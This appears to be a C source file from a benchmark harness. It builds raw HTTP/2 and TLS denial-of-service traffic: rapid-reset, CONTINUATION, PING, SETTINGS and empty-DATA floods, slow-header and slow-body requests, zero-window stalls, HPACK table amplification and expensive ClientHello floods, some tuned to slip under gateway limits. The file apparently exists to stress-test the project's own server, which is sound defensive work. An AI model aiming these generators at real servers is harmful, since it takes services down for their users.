/* The kinds of attack: what each sends first, and again and again (RFC 9113, RFC 7541, RFC 8446).
 */
#include <openssl/ssl.h>
#include <stdlib.h>
#include <string.h>

#include "tests/bench/attack.h"

enum { DATA, HEADERS, RST_STREAM = 3, SETTINGS, PING = 6, WINDOW_UPDATE = 8, CONTINUATION };
enum { END_STREAM = 1, END_HEADERS = 4 };
enum {
    RESETS_AT_ONCE = 2000,    /* pairs in one batch */
    FRAME_BYTES_MAX = 16384,  /* of a payload, as every server takes it */
    TABLE_VALUE_BYTES = 4000, /* fills the table of HPACK, 4,096 bytes with 33 for name and entry */
    FIELDS_LET_THROUGH = 256, /* in a head, beside which the gateway ends no connection */
    HEADS_LET_THROUGH = 50,   /* at once, likewise */
    FIELD_OF_TABLE = 0x80 | 62, /* the newest of the table, RFC 7541, section 2.3.3 */
};

/* ---- frames ---- */

static void add(struct bytes *out, const void *data, size_t length)
{
    if (out->length + length > sizeof out->data) abort();
    memcpy(out->data + out->length, data, length);
    out->length += length;
}

static void add_frame(struct bytes *out, int type, int flags, unsigned stream, const void *payload,
                      size_t length)
{
    const uint8_t header[9] = { (uint8_t)(length >> 16), (uint8_t)(length >> 8),
                                (uint8_t)length,         (uint8_t)type,
                                (uint8_t)flags,          (uint8_t)(stream >> 24),
                                (uint8_t)(stream >> 16), (uint8_t)(stream >> 8),
                                (uint8_t)stream };
    add(out, header, sizeof header);
    add(out, payload, length);
}

static void add_request(struct bytes *out, bool is_post, const char *path, int flags,
                        unsigned stream)
{
    uint8_t block[160] = { is_post ? 0x83 : 0x82, 0x86, 0x04, (uint8_t)strlen(path) };
    size_t length = 4;
    memcpy(block + length, path, strlen(path));
    length += strlen(path);
    memcpy(block + length,
           "\x01\x01"
           "a",
           3);
    add_frame(out, HEADERS, flags, stream, block, length + 3);
}

static void add_many(struct bytes *out, int type, unsigned stream, const void *payload,
                     size_t length, size_t count)
{
    for (size_t i = 0; i < count; i++)
        add_frame(out, type, 0, stream, payload, length);
}

static void add_preface(const void *settings, size_t length)
{
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    add(&attack.openings[0], preface, sizeof preface - 1);
    add_frame(&attack.openings[0], SETTINGS, 0, 0, settings, length);
}

/* ---- the kinds ---- */

static void prepare_resets(void)
{
    add_preface("", 0);
    attack.is_reset = true;
}

static void prepare_resets_once(void)
{
    prepare_resets();
    attack.is_patient = true;
}

static void prepare_slow_heads(void)
{
    add_preface("", 0);
    add_request(&attack.openings[0], false, attack.path, END_STREAM, 1);
    add_frame(&attack.repeated, CONTINUATION, 0, 1, "", 1);
    attack.is_slow = true;
}

static void prepare_slow_bodies(void)
{
    add_preface("", 0);
    for (unsigned i = 0; i < 64; i++)
        add_request(&attack.openings[0], true, "/v1/auth/login", END_HEADERS, 2 * i + 1);
    add_frame(&attack.repeated, DATA, 0, 1, " ", 1);
    add_frame(&attack.repeated, PING, 0, 0, "12345678", 8);
    attack.is_slow = true;
}

static void prepare_stalled_windows(void)
{
    add_preface("\0\4\0\0\0\0", 6); /* SETTINGS_INITIAL_WINDOW_SIZE = 0 */
    for (unsigned i = 0; i < 64; i++)
        add_request(&attack.openings[0], false, "/openapi.json", END_STREAM | END_HEADERS,
                    2 * i + 1);
    attack.is_silent = true;
}

static void prepare_deaf(void)
{
    static const char request[] = "GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n";
    for (size_t i = 0; i < 64; i++)
        add(&attack.openings[0], request, sizeof request - 1);
    attack.is_silent = attack.is_deaf = true;
}

static void prepare_continuations(void)
{
    add_preface("", 0);
    add_request(&attack.openings[0], false, attack.path, END_STREAM, 1);
    add_many(&attack.repeated, CONTINUATION, 1, "", 0, 8192);
}

static void prepare_pings(void)
{
    add_preface("", 0);
    add_many(&attack.repeated, PING, 0, "12345678", 8, 8192);
}

static void prepare_settings(void)
{
    add_preface("", 0);
    add_many(&attack.repeated, SETTINGS, 0, "\0\4\0\0\xff\xff", 6, 8192);
}

static void prepare_empty_data(void)
{
    add_preface("", 0);
    add_request(&attack.openings[0], true, "/v1/auth/login", END_HEADERS, 1);
    add_many(&attack.repeated, DATA, 1, "", 0, 8192);
}

static void prepare_idle(void)
{
    add_preface("", 0);
    attack.is_silent = true;
}

/* 1 MB of heads, each of so many fields, of which those behind the third stand for 4,000 bytes of
 * the table each. */
static void prepare_heads(size_t fields)
{
    static uint8_t block[FRAME_BYTES_MAX] = { 0x82, 0x86, 0x84, 0x40, 0x01, 'a' };
    size_t length = 6;
    add_preface("", 0);
    block[length++] = 0x7f; /* the length of the value: 127 and what follows, seven bits each */
    block[length++] = (TABLE_VALUE_BYTES - 0x7f) % 128 | 0x80;
    block[length++] = (TABLE_VALUE_BYTES - 0x7f) / 128;
    memset(block + length, 'x', TABLE_VALUE_BYTES);
    add_frame(&attack.openings[0], WINDOW_UPDATE, 0, 0, "\x3f\xff\0\0", 4);
    add_frame(&attack.openings[0], HEADERS, END_STREAM | END_HEADERS, 1, block,
              length + TABLE_VALUE_BYTES);
    memset(block + 3, FIELD_OF_TABLE, sizeof block - 3);
    for (unsigned i = 1; attack.repeated.length + fields + 9 <= BYTES_MAX; i++)
        add_frame(&attack.repeated, HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, block, fields);
    attack.is_once = true;
}

static void prepare_references(void)
{
    prepare_heads(FRAME_BYTES_MAX);
}

/* As many requests at once as limits let through, and the next ones when these are answered. */
static void prepare_batches(size_t fields)
{
    prepare_heads(fields);
    attack.batch_heads = HEADS_LET_THROUGH;
    attack.batch_bytes = HEADS_LET_THROUGH * (fields + 9);
}

static void prepare_few_references(void)
{
    prepare_batches(FIELDS_LET_THROUGH);
}

static void prepare_requests(void)
{
    prepare_batches(3); /* method, scheme, path */
}

/* What a client says first when it can do nothing but these groups. */
static void add_hello(struct bytes *out, const char *groups)
{
    SSL_CTX *context = SSL_CTX_new(TLS_client_method());
    SSL *ssl = NULL;
    BIO *sent = BIO_new(BIO_s_mem());
    if (context == NULL || sent == NULL || SSL_CTX_set1_groups_list(context, groups) != 1 ||
        (ssl = SSL_new(context)) == NULL)
        abort();
    SSL_set_bio(ssl, BIO_new(BIO_s_mem()), sent);
    (void)SSL_connect(ssl); /* wants an answer */
    char *hello;
    const long length = BIO_get_mem_data(sent, &hello);
    if (length <= 0) abort();
    add(out, hello, (size_t)length);
    SSL_free(ssl);
    SSL_CTX_free(context);
}

/* Hellos that cost their sender nothing, since they are said again and again, and never gone on
 * with. The last is of the group that everybody has. */
static void prepare_handshakes(void)
{
    static const char *const groups[OPENINGS_MAX] = { "ffdhe8192", "P-521", "P-256" };
    for (size_t i = 0; i < OPENINGS_MAX; i++)
        add_hello(&attack.openings[i], groups[i]);
    attack.openings_count = OPENINGS_MAX;
    attack.is_silent = attack.is_patient = attack.is_paced = true;
}

static const struct {
    const char *name;
    void (*prepare)(void);
} kinds[] = {
    { "resets-once", prepare_resets_once },
    { "resets", prepare_resets },
    { "slow-heads", prepare_slow_heads },
    { "slow-bodies", prepare_slow_bodies },
    { "stalled-windows", prepare_stalled_windows },
    { "deaf", prepare_deaf },
    { "continuations", prepare_continuations },
    { "pings", prepare_pings },
    { "settings", prepare_settings },
    { "empty-data", prepare_empty_data },
    { "idle", prepare_idle },
    { "references", prepare_references },
    { "few-references", prepare_few_references },
    { "requests", prepare_requests },
    { "handshakes", prepare_handshakes },
};

bool attack_prepare(const char *kind)
{
    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++) {
        if (strcmp(kinds[i].name, kind) != 0) continue;
        kinds[i].prepare();
        return true;
    }
    return false;
}

/* ---- while it is under way ---- */

void attack_make_resets(struct client *client)
{
    attack.repeated.length = 0;
    for (size_t i = 0; i < RESETS_AT_ONCE; i++) {
        add_request(&attack.repeated, false, attack.path, END_STREAM | END_HEADERS,
                    client->next_stream);
        add_frame(&attack.repeated, RST_STREAM, 0, client->next_stream, "\0\0\0\x08", 4);
        client->next_stream += 2;
    }
    attack.resets += RESETS_AT_ONCE;
}

void attack_count_answers(struct client *client, const uint8_t *data, size_t length)
{
    for (size_t i = 0; i < length;) {
        if (client->frame_left > 0) {
            const size_t part = client->frame_left < length - i ? client->frame_left : length - i;
            client->frame_left -= part;
            i += part;
            continue;
        }
        client->frame[client->frame_filled++] = data[i++];
        if (client->frame_filled < sizeof client->frame) continue;
        const uint8_t *frame = client->frame;
        client->frame_filled = 0;
        client->frame_left = (size_t)frame[0] << 16 | (size_t)frame[1] << 8 | frame[2];
        const bool is_end = frame[3] <= HEADERS && (frame[4] & END_STREAM) != 0;
        if (is_end || frame[3] == RST_STREAM) client->answers_due--;
    }
}
